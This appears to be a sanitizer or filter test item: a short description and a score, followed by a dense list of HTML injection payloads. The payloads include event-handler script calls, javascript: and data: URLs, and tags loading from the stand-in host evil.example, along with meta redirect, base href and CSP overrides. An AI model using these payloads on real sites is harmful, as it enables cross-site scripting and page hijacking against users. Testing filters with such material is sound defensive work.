"""
tries = "Loads or runs by every tag that can: media, frames, objects, forms, pictures with sources."
score = 4
"""
# %% [markdown] answer="why"
# <video src="//evil.example/v.mp4" poster="//evil.example/p.png" autoplay onerror=pwned(1)></video><audio src=x onerror=pwned(2) autoplay></audio>
#
# <picture><source srcset="//evil.example/s.png"><img src="x.png" srcset="//evil.example/s2.png 2x" onerror=pwned(3)></picture> <img src="https:/\evil.example/x.png"> <img src="/\evil.example/x.png"> <img src=" //evil.example/x.png"> <img src="data:image/svg+xml,<svg onload=pwned(4)>"> <img lowsrc="//evil.example/l.png">
#
# <iframe srcdoc="<script>parent.pwned(5)</script>"></iframe><iframe src="javascript:parent.pwned(6)"></iframe><frameset onload=pwned(7)><frame src="//evil.example"></frameset><object data="data:text/html,<script>pwned(8)</script>"></object><embed src="javascript:pwned(9)"><portal src="//evil.example"></portal>
#
# <input autofocus onfocus=pwned(10)><select autofocus onfocus=pwned(11)></select><textarea autofocus onfocus=pwned(12)></textarea><form action="//evil.example/f"><input type=image src="//evil.example/i.png"><button formaction="javascript:pwned(13)">click</button></form><isindex action="//evil.example"> <keygen autofocus onfocus=pwned(14)>
#
# <svg><script>pwned(15)</script><a xlink:href="javascript:pwned(16)"><text y=20>x</text></a><image href="//evil.example/x.png"/><use href="//evil.example/x.svg#x"/><foreignObject><img src=x onerror=pwned(17)></foreignObject><set attributeName=onmouseover to=pwned(18)></svg>
#
# <meta http-equiv=refresh content="0;url=//evil.example/"><meta http-equiv=Content-Security-Policy content="script-src *"><base href="//evil.example/"><title>pwned</title>
